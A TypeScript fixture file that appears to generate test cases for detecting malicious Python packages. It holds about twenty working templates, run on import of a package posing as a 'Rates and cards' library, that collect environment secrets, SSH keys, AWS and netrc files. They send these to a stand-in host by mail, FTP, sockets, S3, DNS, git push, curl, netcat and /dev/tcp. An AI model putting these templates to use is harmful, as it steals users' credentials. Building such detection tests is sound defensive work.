import { importingWheel, techniques } from './drafts.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { fileSync, mailer } from './look-alikes/channels.ts';

const SECRETS = `import os\n\n_secrets = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name or "KEY" in name}\n`;
const KEY_FILE = `import os\n\nwith open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as _stream:\n    _secrets = _stream.read()\n`;

interface Channel {
  readonly source: string;
  readonly code: (c: Remote) => string;
}

/** The same secret by other ways out than an HTTP client. */
const CHANNELS: Readonly<Record<string, Channel>> = {
  mail: {
    source: SECRETS,
    code: (c) =>
      `import smtplib\n\nwith smtplib.SMTP("${c.host}", 587) as server:\n    server.starttls()\n    server.login("relay", "relay-password")\n    server.sendmail("a@${c.host}", "b@${c.host}", "Subject: x\\n\\n" + repr(_secrets))\n`,
  },
  ftp: {
    source: KEY_FILE,
    code: (c) =>
      `import ftplib\nimport io\n\nwith ftplib.FTP("${c.host}", "drop", "drop") as server:\n    server.storbinary("STOR key", io.BytesIO(_secrets))\n`,
  },
  'tcp-socket': {
    source: KEY_FILE,
    code: (c) =>
      `import socket\n\ns = socket.socket()\ns.connect(("${c.host}", 4444))\ns.sendall(_secrets)\ns.close()\n`,
  },
  udp: {
    source: SECRETS,
    code: (c) =>
      `import json\nimport socket\n\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(json.dumps(_secrets).encode(), ("${c.host}", 5353))\n`,
  },
  'tls-socket': {
    source: SECRETS,
    code: (c) =>
      `import socket\nimport ssl\n\nraw = socket.create_connection(("${c.host}", 443))\nlink = ssl.create_default_context().wrap_socket(raw, server_hostname="${c.host}")\nlink.write(repr(_secrets).encode())\n`,
  },
  'asyncio-stream': {
    source: SECRETS,
    code: (c) =>
      `import asyncio\n\n\nasync def report():\n    reader, writer = await asyncio.open_connection("${c.host}", 9001)\n    writer.write(repr(_secrets).encode())\n    await writer.drain()\n\n\nasyncio.run(report())\n`,
  },
  sftp: {
    source: SECRETS,
    code: (c) =>
      `import io\nimport paramiko\n\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nclient.connect("${c.host}", username="drop", password="drop")\nclient.open_sftp().putfo(io.BytesIO(repr(_secrets).encode()), "/in/env")\n`,
  },
  bucket: {
    source: SECRETS,
    code: (c) =>
      `import boto3\n\nboto3.client("s3", endpoint_url="${c.base}", aws_access_key_id="AKIAEXAMPLE", aws_secret_access_key="example").put_object(Bucket="drop", Key="env", Body=repr(_secrets))\n`,
  },
  websocket: {
    source: SECRETS,
    code: (c) =>
      `import json\nimport websocket\n\nlink = websocket.create_connection("wss://${c.host}/live")\nlink.send(json.dumps(_secrets))\n`,
  },
  'xml-rpc': {
    source: SECRETS,
    code: (c) => `import xmlrpc.client\n\nxmlrpc.client.ServerProxy("${c.base}").report(repr(_secrets))\n`,
  },
  'http-handler': {
    source: SECRETS,
    code: (c) =>
      `import logging\nimport logging.handlers\n\nlog = logging.getLogger("metrics")\nlog.addHandler(logging.handlers.HTTPHandler("${c.host}", "/log", method="POST", secure=True))\nlog.warning("%r", _secrets)\n`,
  },
  'http-client': {
    source: SECRETS,
    code: (c) =>
      `import http.client\nimport json\n\nlink = http.client.HTTPSConnection("${c.host}")\nlink.request("POST", "/in", json.dumps(_secrets), {"Content-Type": "application/json"})\n`,
  },
  browser: {
    source: SECRETS,
    code: (c) =>
      `import urllib.parse\nimport webbrowser\n\nwebbrowser.open("${c.url('/v')}?" + urllib.parse.urlencode(_secrets))\n`,
  },
  'curl-arguments': {
    source: SECRETS,
    code: (c) =>
      `import json\nimport subprocess\n\nsubprocess.run(["curl", "-s", "-X", "POST", "-d", json.dumps(_secrets), "${c.url('/in')}"])\n`,
  },
  'shell-upload': {
    source: 'import os\n',
    code: (c) => `os.system("tar cz ~/.ssh ~/.aws 2>/dev/null | curl -s -T - ${c.url('/in')} &")\n`,
  },
  'dev-tcp': {
    source: 'import os\n',
    code: (c) => `os.system("bash -c 'cat ~/.netrc > /dev/tcp/${c.host}/8080'")\n`,
  },
  netcat: {
    source: 'import subprocess\n',
    code: (c) => `subprocess.Popen("env | nc ${c.host} 9999", shell=True)\n`,
  },
  'git-push': {
    source: SECRETS,
    code: (c) =>
      `import subprocess\nimport tempfile\n\nfolder = tempfile.mkdtemp()\nwith open(folder + "/data.txt", "w") as stream:\n    stream.write(repr(_secrets))\nfor argv in (["init", "-q"], ["add", "."], ["commit", "-qm", "x"], ["push", "-q", "${c.url('/drop/box.git')}", "HEAD:main"]):\n    subprocess.run(["git", *argv], cwd=folder)\n`,
  },
  'dns-python': {
    source: SECRETS,
    code: (c) =>
      `import dns.resolver\n\nfor name, value in _secrets.items():\n    dns.resolver.resolve(value.encode().hex()[:60] + "." + name.lower() + ".${c.host}", "TXT")\n`,
  },
  'session-hook': {
    source: SECRETS,
    code: (c) =>
      `import requests\n\nwith requests.Session() as session:\n    session.headers["X-Context"] = repr(_secrets)\n    session.get("${c.url('/favicon.ico')}")\n`,
  },
};

const draft =
  ({ source, code }: Channel) =>
  (c: Remote): Draft =>
    importingWheel({ name: 'ratecard', about: 'Rates and cards', code: `${source}${code(c)}` });

const technique = techniques('https://attack.mitre.org/techniques/T1048/', 'https://intake.ratecard-sync.invalid');

const TWINS: Readonly<Record<string, Replay['lookAlikes']>> = {
  mail: () => [mailer()],
  sftp: () => [fileSync()],
};

export const CHANNELS_OUT: readonly Replay[] = Object.entries(CHANNELS).map(([name, channel]) =>
  technique(
    `39-${name}`,
    `secrets leave by ${name}`,
    'import sends secret variables or key files of the user to a constant host',
    draft(channel),
    {
      ...(TWINS[name] === undefined ? {} : { lookAlikes: TWINS[name] }),
      ...(name === 'dns-python' ? { needsName: true } : {}),
    },
  ),
);
